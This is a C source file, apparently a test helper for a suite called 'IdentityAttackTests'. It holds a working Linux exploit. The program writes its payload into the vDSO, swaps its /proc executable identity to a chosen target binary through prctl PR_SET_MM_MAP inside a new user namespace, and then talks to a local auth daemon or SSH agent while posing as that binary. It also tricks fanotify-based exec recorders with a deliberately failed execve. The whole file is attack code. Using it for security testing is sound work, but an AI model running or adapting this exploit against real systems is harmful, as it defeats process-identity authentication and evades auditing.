/* exe-swap TARGET sleep
 * exe-swap TARGET SOCKET FRAME_HEX [FRAME_HEX...]   (localauthd: the hello first)
 *
 * Issue 47, item 1, as a program of an unprivileged user (x86-64, static):
 *  1. copies its payload (position-independent, raw system calls only) into the vDSO, made writable;
 *  2. from there unmaps every mapping of its own executable (replace_mm_exe_file refuses while one remains);
 *  3. clone(CLONE_VM|CLONE_VFORK|CLONE_NEWUSER): the child, in a new user namespace where it holds every
 *     capability, calls prctl(PR_SET_MM, PR_SET_MM_MAP) with exe_fd = TARGET; prctl_set_mm_map checks
 *     checkpoint_restore_ns_capable(current_user_ns()) -- the child's new namespace, not the mm's -- and the
 *     memory map, shared with the parent, now has TARGET as its executable;
 *  4. the parent (never in another namespace) runs on in the vDSO: "sleep" prints "swapped <pid>" and waits (a test
 *     inspects /proc/<pid>); otherwise it connects to SOCKET and exchanges frames as probe-connect does (each
 *     frame written, one answer frame read and printed as hex, "closed" at the end of the stream; localauthd's
 *     framing, or the SSH agent's with EXE_SWAP_SSH set).
 * Its memory map then has no file mapping (it is static), [vdso] (inode 0) holding pages it wrote, and anonymous
 * non-executable memory; with EXE_SWAP_MAP_TARGET set, also TARGET's first page mapped as code. With EXE_SWAP_COW
 * the payload runs instead from a private copy-on-write mapping of TARGET it wrote into, the vDSO left alone.
 * Built by IdentityAttackTests: cc -static -O2 -fno-stack-protector -fcf-protection=none -fno-jump-tables -fno-pic
 * -no-pie (the payload must hold no call through a table or a stack guard: it runs from a copy). x86-64 only. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
#include <sched.h>
#include <signal.h>
#include <linux/prctl.h>

#define MAX_RANGES 16
#define MAX_FRAMES 8

struct context {
    struct prctl_mm_map map;
    unsigned long unmap_start[MAX_RANGES], unmap_length[MAX_RANGES];
    long ranges;
    long sleep_mode;
    long clone_flags;
    long keep_executable; /* control: leave the executable mapped (the kernel's EBUSY) */
    long map_target;      /* EXE_SWAP_MAP_TARGET: after the swap, map TARGET's first page as code (a mapped executable) */
    long ssh_framing;     /* EXE_SWAP_SSH: answers framed as the SSH agent's (a 4-byte length, then the message) */
    long exe_fd;
    struct sockaddr_un address;
    long frames;
    unsigned char *frame[MAX_FRAMES];
    long frame_length[MAX_FRAMES];
    unsigned char *buffer; /* 1 MiB + 5 */
    char *out;             /* 2 MiB + 64 */
    char closed[8], swapped[16], swap[8]; /* the payload's texts: no constants outside its section */
};

/* ---- the payload: copied into the vDSO; no calls out, no data but the context ---- */
#define PAYLOAD __attribute__((section("swapcode"), noinline, used, optimize("no-tree-loop-distribute-patterns")))
#define INLINE static inline __attribute__((always_inline))

INLINE long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
INLINE long sys4(long n, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}

INLINE long sys6(long n, long a, long b, long c, long d, long e, long f) {
    long r;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
    return r;
}

INLINE long put(const char *text, long length) { return sys3(SYS_write, 1, (long)text, length); }

INLINE long copy(char *to, const char *from) {
    long k = 0;
    while (from[k]) { to[k] = from[k]; k++; }
    return k;
}

INLINE long read_fully(long fd, unsigned char *to, long count) {
    long done = 0;
    while (done < count) {
        long n = sys3(SYS_read, fd, (long)(to + done), count - done);
        if (n <= 0) return 0;
        done += n;
    }
    return 1;
}

INLINE long decimal(char *to, long value) {
    char digits[24];
    long n = 0, k = 0;
    if (value < 0) { to[k++] = '-'; value = -value; }
    do { digits[n++] = (char)('0' + value % 10); value /= 10; } while (value);
    while (n) to[k++] = digits[--n];
    return k;
}

PAYLOAD void swap_payload(struct context *c) {
    char line[64];
    long k;
    for (long i = 0; i < c->ranges && !c->keep_executable; i++) sys3(SYS_munmap, (long)c->unmap_start[i], (long)c->unmap_length[i], 0);

    /* clone(CLONE_VM|CLONE_VFORK|CLONE_NEWUSER|SIGCHLD, stack 0): the child runs on this stack while the parent
     * waits (vfork), does the prctl and exits with its result; nothing of the child returns through C code. */
    long child;
    register long r12 __asm__("r12") = (long)&c->map;
    __asm__ volatile(
        "mov $56, %%eax\n\t"          /* SYS_clone */
        "syscall\n\t"
        "test %%rax, %%rax\n\t"
        "jnz 1f\n\t"
        "mov $157, %%eax\n\t"         /* SYS_prctl */
        "mov $35, %%edi\n\t"          /* PR_SET_MM */
        "mov $14, %%esi\n\t"          /* PR_SET_MM_MAP */
        "mov %%r12, %%rdx\n\t"
        "mov %[size], %%r10\n\t"
        "xor %%r8d, %%r8d\n\t"
        "syscall\n\t"
        "neg %%eax\n\t"               /* exit status: errno (0: done) */
        "mov %%eax, %%edi\n\t"
        "mov $60, %%eax\n\t"          /* SYS_exit */
        "syscall\n\t"
        "1:\n\t"
        : "=a"(child)
        : "D"(c->clone_flags), "S"(0L), "d"(0L), "r"(r12),
          [size] "i"(sizeof(struct prctl_mm_map))
        : "rcx", "r8", "r10", "r11", "memory");
    int status = -1;
    if (child > 0) sys4(SYS_wait4, child, (long)&status, 0, 0);
    long result = child < 0 ? child : (status & 0x7f) ? -1000 : -((status >> 8) & 0xff);
    if (result != 0) {
        k = copy(line, c->swap);
        k += decimal(line + k, result);
        line[k++] = '\n';
        put(line, k);
        sys3(SYS_exit_group, 3, 0, 0);
    }
    if (c->map_target) sys6(SYS_mmap, 0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, c->exe_fd, 0);
    if (c->sleep_mode) {
        k = copy(line, c->swapped);
        k += decimal(line + k, sys3(SYS_getpid, 0, 0, 0));
        line[k++] = '\n';
        put(line, k);
        for (;;) sys3(SYS_pause, 0, 0, 0);
    }
    long fd = sys3(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0 || sys3(SYS_connect, fd, (long)&c->address, sizeof c->address) != 0) sys3(SYS_exit_group, 1, 0, 0);
    for (long f = 0; f < c->frames; f++) {
        unsigned char *b = c->buffer;
        long header = c->ssh_framing ? 4 : 5;
        if (sys3(SYS_write, fd, (long)c->frame[f], c->frame_length[f]) != c->frame_length[f] || !read_fully(fd, b, header)) {
            put(c->closed, 7);
            break;
        }
        unsigned char *size = b + header - 4;
        long length = (long)size[0] << 24 | (long)size[1] << 16 | (long)size[2] << 8 | size[3];
        if (length > (1 << 20) || !read_fully(fd, b + header, length)) { put(c->closed, 7); break; }
        length += header - 5;
        char *o = c->out;
        for (long i = 0; i < length + 5; i++) {
            long hi = b[i] >> 4, lo = b[i] & 15;
            o[2 * i] = (char)(hi < 10 ? '0' + hi : 'a' + hi - 10);
            o[2 * i + 1] = (char)(lo < 10 ? '0' + lo : 'a' + lo - 10);
        }
        o[2 * (length + 5)] = '\n';
        put(o, 2 * (length + 5) + 1);
    }
    sys3(SYS_exit_group, 0, 0, 0);
}
extern char __start_swapcode[], __stop_swapcode[];

/* ---- set-up, with libc, before the executable goes ---- */
static unsigned long stat_field(const char *stat, int field) {
    const char *p = strrchr(stat, ')') + 2; /* field 3 */
    for (int f = 3; f < field; f++) p = strchr(p, ' ') + 1;
    return strtoul(p, NULL, 10);
}

static unsigned char *unhex(const char *text, long *length) {
    *length = (long)strlen(text) / 2;
    unsigned char *out = malloc(*length ? *length : 1); /* brk memory: anonymous, stays after the unmapping */
    for (long i = 0; i < *length; i++) sscanf(text + 2 * i, "%2hhx", &out[i]);
    return out;
}

int main(int argc, char **argv) {
    if (argc < 3 || (strcmp(argv[2], "sleep") != 0 && argc < 4) || argc - 3 > MAX_FRAMES) {
        fprintf(stderr, "usage: %s TARGET sleep | %s TARGET SOCKET FRAME_HEX...\n", argv[0], argv[0]);
        return 2;
    }
    struct context *c = mmap(NULL, sizeof *c, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    c->buffer = mmap(NULL, (1 << 20) + 5, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    c->out = mmap(NULL, (2 << 20) + 64, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    strcpy(c->closed, "closed\n");
    strcpy(c->swapped, "swapped ");
    strcpy(c->swap, "swap=");
    int exe = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (exe < 0) { perror(argv[1]); return 1; }
    /* Controls: EXE_SWAP_NO_USERNS=1 (the same prctl without a new user namespace: EPERM), EXE_SWAP_KEEP=1 (the
     * executable left mapped: EBUSY). */
    c->clone_flags = CLONE_VM | CLONE_VFORK | SIGCHLD | (getenv("EXE_SWAP_NO_USERNS") ? 0 : CLONE_NEWUSER);
    c->keep_executable = getenv("EXE_SWAP_KEEP") != NULL;
    c->map_target = getenv("EXE_SWAP_MAP_TARGET") != NULL;
    c->ssh_framing = getenv("EXE_SWAP_SSH") != NULL;
    c->exe_fd = exe;
    /* EXE_SWAP_FAILED_EXEC=1: first an execve(TARGET) that fails after the kernel opened TARGET (argv at a bad
     * address: EFAULT), so that a recorder trusting fanotify's FAN_OPEN_EXEC alone records TARGET for this pid. */
    if (getenv("EXE_SWAP_FAILED_EXEC")) syscall(SYS_execve, argv[1], (char **)8, (char **)0);
    c->sleep_mode = strcmp(argv[2], "sleep") == 0;
    if (!c->sleep_mode) {
        c->address.sun_family = AF_UNIX;
        strncpy(c->address.sun_path, argv[2], sizeof c->address.sun_path - 1);
        for (int i = 3; i < argc; i++) c->frame[c->frames] = unhex(argv[i], &c->frame_length[c->frames]), c->frames++;
    }

    /* The memory map's fields as they are (prctl_set_mm_map replaces them all); only exe_fd changes. */
    char stat[4096] = {0};
    FILE *f = fopen("/proc/self/stat", "r");
    fread(stat, 1, sizeof stat - 1, f);
    fclose(f);
    c->map.start_code = stat_field(stat, 26);
    c->map.end_code = stat_field(stat, 27);
    c->map.start_stack = stat_field(stat, 28);
    c->map.start_data = stat_field(stat, 45);
    c->map.end_data = stat_field(stat, 46);
    c->map.start_brk = stat_field(stat, 47);
    c->map.arg_start = stat_field(stat, 48);
    c->map.arg_end = stat_field(stat, 49);
    c->map.env_start = stat_field(stat, 50);
    c->map.env_end = stat_field(stat, 51);
    c->map.brk = (unsigned long)sbrk(0);
    c->map.exe_fd = (unsigned)exe;

    /* Every mapping of this executable, and the vDSO. */
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    self[n < 0 ? 0 : n] = 0;
    unsigned long vdso = 0, vdso_end = 0;
    char line[8192];
    f = fopen("/proc/self/maps", "r");
    while (fgets(line, sizeof line, f)) {
        unsigned long start, end;
        char path[4096] = "";
        sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095[^\n]", &start, &end, path);
        if (strcmp(path, "[vdso]") == 0) vdso = start, vdso_end = end;
        else if (strcmp(path, self) == 0 && c->ranges < MAX_RANGES)
            c->unmap_start[c->ranges] = start, c->unmap_length[c->ranges] = end - start, c->ranges++;
    }
    fclose(f);
    size_t size = (size_t)(__stop_swapcode - __start_swapcode);
    unsigned long where;
    if (getenv("EXE_SWAP_COW")) {
        /* EXE_SWAP_COW: the payload goes into a private, copy-on-write mapping of TARGET itself (root's file, which
         * the process may read): its map then names TARGET, mapped, and the vDSO stays the kernel's. */
        size_t span = (size + 4095) & ~(size_t)4095;
        void *copy = mmap(NULL, span, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE, exe, 0);
        if (copy == MAP_FAILED) { perror("mmap TARGET"); return 1; }
        memcpy(copy, __start_swapcode, size);
        mprotect(copy, span, PROT_READ | PROT_EXEC);
        where = (unsigned long)copy;
    } else {
        if (!vdso || size > vdso_end - vdso) { fprintf(stderr, "no room in the vDSO\n"); return 1; }
        if (mprotect((void *)vdso, vdso_end - vdso, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) {
            perror("mprotect [vdso]");
            return 1;
        }
        memcpy((void *)vdso, __start_swapcode, size);
        /* Back to r-x, as a pristine vDSO: the pages stay private copies (Anonymous in smaps) with our bytes. */
        mprotect((void *)vdso, vdso_end - vdso, PROT_READ | PROT_EXEC);
        where = vdso;
    }
    fflush(NULL);
    void (*entry)(struct context *) = (void (*)(struct context *))(where + ((char *)swap_payload - __start_swapcode));
    entry(c);
    return 0; /* not reached */
}
